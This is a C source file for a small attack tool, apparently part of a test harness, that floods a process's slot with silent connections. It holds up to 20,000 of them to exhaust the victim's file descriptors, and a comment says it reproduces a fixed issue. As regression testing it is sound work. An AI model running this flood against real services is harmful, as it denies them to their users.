/*
 * Connects to a process's slot and says nothing, as often as it can (issue: links without a hello
 * were kept without a time limit, and took the victim's descriptors: 1,000 in 0.1 s, after which it
 * could accept nobody).
 *
 * usage: silent-links SECONDS SLOT
 */
#include "attack.h"

/*
 * Descriptors that this process keeps at most. A connection that its victim has closed is given up
 * for another one.
 */
enum { KEPT = 20000 };

static int kept[KEPT];

/* Whether the other end has closed a connection. */
static bool is_cut(int fd)
{
	char byte;

	return recv(fd, &byte, 1, MSG_DONTWAIT | MSG_PEEK) == 0;
}

int main(int argc, char **argv)
{
	unsigned long slot, at = 0;

	if (argc != 3)
		return 2;
	begin_attack(argv[1]);
	slot = number(argv[2], 1, 1023);
	many_descriptors();
	memset(kept, -1, sizeof kept);
	while (goes_on()) {
		int fd = connect_to_slot(slot, SOCK_NONBLOCK);

		if (fd >= 0) {
			attack.injected++;
			if (kept[at] >= 0)
				close(kept[at]);
			kept[at] = fd;
		} else if (kept[at] >= 0 && is_cut(kept[at])) {
			close(kept[at]);
			kept[at] = -1;
		} else {
			usleep(100);
		}
		at = (at + 1) % KEPT;
	}
	tell();
	return 0;
}
